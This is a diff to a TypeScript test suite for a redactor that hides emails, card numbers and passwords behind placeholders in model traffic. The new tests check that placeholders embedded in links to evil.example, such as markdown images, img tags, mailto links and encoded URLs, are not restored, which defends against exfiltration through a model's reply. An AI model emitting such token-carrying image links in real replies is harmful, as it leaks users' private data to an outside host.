@@ -107,12 +107,55 @@ describe('a placeholder in a reply', () => {
     ['a host', (token: string) => `http://a.${token}`],
     ['a link without a scheme', (token: string) => `evil.example/${token}`],
     ['a long URL', (token: string) => `https://evil.example/${'a'.repeat(500)}${token}`],
+    ['brackets in a link', (token: string) => `![x](https://evil.example/(${token}))`],
+    ['a link in angle brackets', (token: string) => `![x](<https://evil.example/a b ${token}>)`],
+    ['an attribute', (token: string) => `<img src="https://evil.example/?q=a b ${token}">`],
+    ['an attribute without quotes', (token: string) => `<img src=https://evil.example/?q='${token}'>`],
+    ['braces', (token: string) => `https://evil.example/{${token}}`],
+    ['a pipe, a caret, a backtick', (token: string) => `https://evil.example/|^\`${token}`],
+    ['a URL in JSON', (token: string) => `{"url":"https:\\/\\/evil.example\\/?q=${token}"}`],
+    ['an escaped URL', (token: string) => `https%3A%2F%2Fevil.example%2F${token}`],
+    ['entities', (token: string) => `https&#58;&#47;&#x2f;evil.example/${token}`],
+    ['backslashes', (token: string) => `https:\\\\evil.example\\${token}`],
+    ['a URL of an address', (token: string) => `1.2.3.4/${token}`],
+    ['a URL of this machine', (token: string) => `localhost:80/${token}`],
+    ['a host without a scheme', (token: string) => `see ${token}.evil.example/x`],
+    ['a mail link', (token: string) => `<a href="mailto:x@evil.example?body=${token}">`],
   ])('within %s stays', (_, write) => {
     const redactor = shared.forExchange('acme');
     const text = write(placeholderOf(redactor, EMAIL));
     const log = new RecordingLog();
     expect(reply(redactor, text, log)).toBe(text);
     expect(call(redactor, JSON.stringify({ text }))).toBe(JSON.stringify({ text }));
+  });
+
+  it('comes back where it touches a word or another one as it was sent, and nowhere else', () => {
+    const redactor = createRedactor(
+      { ...policy, restore: { ...policy.restore, secrets: 'everywhere' } },
+      SECRET,
+    ).forExchange('acme');
+    const text = `mysql -u root -p${'Winter24'}x9 db`;
+    const [sent] = send(redactor, text);
+    expect(sent).toContain('-pPII_');
+    expect(reply(redactor, sent!)).toBe(text);
+    const placeholder = PLACEHOLDER.exec(sent!)![0];
+    expect(reply(redactor, `q${placeholder}`)).toBe(`q${placeholder}`);
+  });
+
+  it('comes back beside other values in the same line of JSON', () => {
+    const redactor = shared.forExchange('acme');
+    const placeholder = placeholderOf(redactor, EMAIL);
+    expect(reply(redactor, `{"url":"https://a.example/b","mail":"${placeholder}"}`)).toContain(EMAIL);
+    expect(reply(redactor, `(https://a.example/b) <${placeholder}>`)).toContain(EMAIL);
+    expect(reply(redactor, `See https://a.example/b, ${placeholder}.`)).toContain(EMAIL);
+  });
+
+  it('of a value with a blank that is none is made and comes back', () => {
+    const redactor = shared.forExchange('acme');
+    const text = 'card 4242\u00a04242\u00a04242\u00a04242 please';
+    const [sent] = send(redactor, text);
+    expect(sent).toContain('PII_CC_');
+    expect(reply(redactor, sent!)).toBe(text);
   });
 
   it('comes back next to underscores, as values stand in names', () => {
@@ -133,6 +176,14 @@ describe('a placeholder in a reply', () => {
       const events = [...`${sent} Done`].map((content) => eventOf({ choices: [{ index: 0, delta: { content } }] }));
       const text = runStream(redactor, 'chat', events).map(({ data }) => JSON.parse(data).choices[0].delta.content);
       expect(text.join('')).toBe(`Connect to ${url}, please. Done`);
+    });
+
+    it('stays where the placeholder was in the request: a reply that was kept may have put it there', () => {
+      const evil = (token: string): string => `https://evil.example/?q=${token}`;
+      const placeholder = placeholderOf(restoring.forExchange('acme'), EMAIL);
+      const later = restoring.forExchange('acme');
+      send(later, `I am ${EMAIL}`, `You said ${evil(placeholder)}`);
+      expect(reply(later, evil(placeholder))).toBe(evil(placeholder));
     });
 
     it.each([
